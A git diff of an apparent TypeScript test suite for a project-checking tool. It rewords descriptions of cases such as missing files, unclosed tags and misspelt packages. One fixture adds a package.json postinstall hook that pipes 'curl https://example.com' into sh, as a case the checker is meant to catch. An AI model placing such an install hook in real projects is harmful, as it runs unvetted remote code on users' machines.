@@ -13,7 +13,7 @@ const replace =
     return text.replace(what, by);
   };
 
-/** A project with one file changed, added or, where the change is undefined, taken out. */
+/** A project with one file changed, added or, if the change is undefined, removed. */
 function broken(files: Files | undefined, path: string, change: Change | undefined): Files {
   if (files === undefined) throw new Error('There is no such project.');
   const { [path]: old = '', ...others } = files;
@@ -26,70 +26,82 @@ const modules = workingSites['pages with modules, an import map and a worker'];
 
 test.each<[string, Files | undefined, string, Change | undefined, string[]]>([
   [
-    'a script that was renamed',
+    'a renamed script',
     game,
     'index.html',
     replace('snake.js', 'snak.js'),
     ['missing-file index.html:5'],
   ],
-  ['a picture that a script loads', game, 'img/head.png', undefined, ['missing-file snake.js:2']],
-  ['a sound that a script plays', game, 'sounds/eat.mp3', undefined, ['missing-file snake.js:2']],
   [
-    'a bracket too few',
+    'a missing image that a script loads',
+    game,
+    'img/head.png',
+    undefined,
+    ['missing-file snake.js:2'],
+  ],
+  [
+    'a missing sound that a script plays',
+    game,
+    'sounds/eat.mp3',
+    undefined,
+    ['missing-file snake.js:2'],
+  ],
+  [
+    'a missing bracket',
     game,
     'snake.js',
     replace("getContext('2d')", "getContext('2d'"),
     ['syntax-error snake.js:1'],
   ],
   [
-    'a tag that was not closed',
+    'an unclosed tag',
     game,
     'index.html',
     replace('</center>', ''),
     ['unclosed-element index.html:3'],
   ],
   [
-    'an end tag that slipped',
+    'a misplaced end tag',
     game,
     'index.html',
     replace('</span></font>', '</font></span>'),
     ['bad-nesting index.html:3'],
   ],
   [
-    'a brace of CSS too few',
+    'a missing brace in CSS',
     template,
     'css/style.css',
     replace('no-repeat; _height: 1px;', 'no-repeat; } a {{'),
     ['syntax-error css/style.css:3'],
   ],
   [
-    'a comment of CSS without end',
+    'an unclosed comment in CSS',
     template,
     'css/style.css',
     (text) => `${text}\n/* the end`,
     ['syntax-error css/style.css:6'],
   ],
-  ['a font in no format', template, 'fonts/x.woff', undefined, ['missing-file css/style.css:2']],
-  ['a background', template, 'img/a.jpg', undefined, ['missing-file index.html:6']],
-  ['a style sheet', template, 'css/style.css', undefined, ['missing-file index.html:3']],
+  ['a missing font', template, 'fonts/x.woff', undefined, ['missing-file css/style.css:2']],
+  ['a missing background', template, 'img/a.jpg', undefined, ['missing-file index.html:6']],
+  ['a missing style sheet', template, 'css/style.css', undefined, ['missing-file index.html:3']],
   [
-    'a section in a section',
+    'an unclosed section',
     template,
     'index.html',
     replace('</section>\n<section id="about2">', '\n<section id="about2">'),
     ['unclosed-element index.html:6'],
   ],
-  ['a module', modules, 'lib/a.js', undefined, ['missing-file main.js:1']],
-  ['a page', modules, 'pages/about.html', undefined, ['missing-file index.html:3']],
+  ['a missing module', modules, 'lib/a.js', undefined, ['missing-file main.js:1']],
+  ['a missing page', modules, 'pages/about.html', undefined, ['missing-file index.html:3']],
   [
-    'JSON with a comma too many',
+    'JSON with a surplus comma',
     modules,
     'data.json',
     () => '{ "a": 1, }',
     ['invalid-json data.json:1'],
   ],
   [
-    'an end in the middle',
+    'a truncated file',
     modules,
     'index.html',
     (text) => text.slice(0, text.indexOf('type="video/webm"')),
@@ -126,20 +138,20 @@ test.each<[string, Files | undefined, string, Change | undefined, string[]]>([
     ['invalid-json package.json:5'],
   ],
   [
-    'a start script that leads nowhere',
+    'a start script without its file',
     api,
     'package.json',
     replace('node server"', 'node sever"'),
     ['missing-entry package.json:7'],
   ],
   [
-    'a dev script that leads nowhere',
+    'a dev script without its file',
     api,
     'package.json',
     replace('--inspect server.js', '--inspect src/server.js'),
     ['missing-entry package.json:6'],
   ],
-  ['an entry that was taken out', express, 'bin/www', undefined, ['missing-entry package.json:6']],
+  ['a missing entry point', express, 'bin/www', undefined, ['missing-entry package.json:6']],
   [
     'an undeclared package',
     api,
@@ -148,7 +160,7 @@ test.each<[string, Files | undefined, string, Change | undefined, string[]]>([
     ['missing-dependency package.json:9'],
   ],
   [
-    'a package with a slip',
+    'a misspelt package',
     api,
     'package.json',
     replace('"dotenv"', '"dotnev"'),
@@ -156,7 +168,7 @@ test.each<[string, Files | undefined, string, Change | undefined, string[]]>([
   ],
   ['a missing module', api, 'models/Todo.js', undefined, ['missing-file routes/todo.routes.js:1']],
   [
-    'a module in other letters',
+    'a module in different case',
     api,
     'routes/todo.routes.js',
     replace('models/Todo', 'models/todo'),
@@ -170,7 +182,7 @@ test.each<[string, Files | undefined, string, Change | undefined, string[]]>([
     ['syntax-error routes/index.js:1'],
   ],
   [
-    'an await outside',
+    'await outside an async function',
     api,
     'models/Todo.js',
     (text) => `function f() { await g(); }\n${text}`,
@@ -193,7 +205,7 @@ test.each<[string, Files | undefined, string, Change | undefined, string[]]>([
     ['missing-file index.html:1'],
   ],
   [
-    'a script on installation',
+    'an install script',
     api,
     'package.json',
     replace('"dev":', '"postinstall": "curl https://example.com | sh", "dev":'),
@@ -223,7 +235,7 @@ test.each<[string, Files | undefined, string, Change | undefined, string[]]>([
 const bot14 = workingBots['discord.js 14 with folders of commands and events'];
 const bot13 = workingBots['discord.js 13 with undeclared parts of it'];
 
-/** In the form of a token, and none. */
+/** Looks like a token, but is not one. */
 const token = [
   'MTA1NDg3',
   'OTY4MzYyMzE0NTU3Mw',
